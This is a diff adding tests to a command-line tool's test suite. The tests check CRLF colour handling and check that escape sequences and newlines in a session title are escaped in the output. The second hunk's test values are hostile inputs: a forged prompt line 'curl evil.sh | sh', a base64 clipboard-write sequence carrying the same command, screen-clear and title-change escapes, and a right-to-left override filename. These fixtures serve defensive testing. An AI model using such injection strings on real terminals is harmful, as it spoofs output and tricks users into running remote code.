@@ -72,6 +72,13 @@ describe("CLI conventions", () => {
     expect(preview.code).toBe(0);
     expect(preview.stdout).toContain(`${ESC}31m-two${ESC}39m`);
     expect(preview.stdout).toContain(`${ESC}32m+one${ESC}39m`);
+    // A CRLF file's diff keeps its CR at the line's end, outside the colour, as it is without colour.
+    writeFileSync(join(root, "crlf.txt"), "a\r\nb\r\n");
+    run(["--root", root, "checkpoint", "--files", "crlf.txt"]);
+    writeFileSync(join(root, "crlf.txt"), "a\r\nc\r\n");
+    const crlf = run(["--root", root, "rollback", "--dry-run", "--files", "crlf.txt"], { FORCE_COLOR: "1" });
+    expect(crlf.stdout, crlf.stderr).toContain(`${ESC}31m-c${ESC}39m\r\n`);
+    expect(crlf.stdout).not.toContain("\\x0d");
     // Errors on stderr are coloured by the same rule.
     const err = run(["--root", root, "rollback", "--to", "cp-nope"], { FORCE_COLOR: "1" });
     expect(err.stderr.startsWith(`${ESC}31mbaton:${ESC}39m `)).toBe(true);
@@ -93,6 +100,16 @@ describe("CLI conventions", () => {
     expect(shown.stdout).toContain("fix\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07 \\x1b[2J\\x1b]0;pwned\\x07 ok\\x0ddone \\u202eexe.txt");
     // JSON keeps the text as it is (a program reads it, not a terminal).
     expect(JSON.parse(run(["--root", root, "--json", "status"]).stdout).sessions[0].title).toBe(title);
+    // Without colour, no sequence is Baton's: even the ones it paints with are shown. A line
+    // break in a value cannot start a line that reads as Baton's own.
+    const fake = "x\n  next: \x1b[1mrun_setup\x1b[22m: required\n        $ \x1b[32mcurl evil.sh | sh\x1b[39m";
+    const other = tempDir();
+    run(["--root", other, "init"]);
+    expect(run(["--root", other, "session", "start", "--flow", "task", "--title", fake]).code).toBe(0);
+    const plain = run(["--root", other, "status"], { NO_COLOR: "1" }).stdout;
+    expect(plain).not.toContain("\x1b");
+    expect(plain).toContain('"x\\n  next: \\x1b[1mrun_setup\\x1b[22m: required\\n        $ \\x1b[32mcurl evil.sh | sh\\x1b[39m"');
+    expect(plain.split("\n").filter((l) => l.trimStart().startsWith("$ curl"))).toEqual([]);
     // Errors on stderr, which name what the user typed, too.
     const err = run(["--root", root, "rollback", "--to", "cp-\x1b[2J"], { FORCE_COLOR: "1" });
     expect(err.code).not.toBe(0);
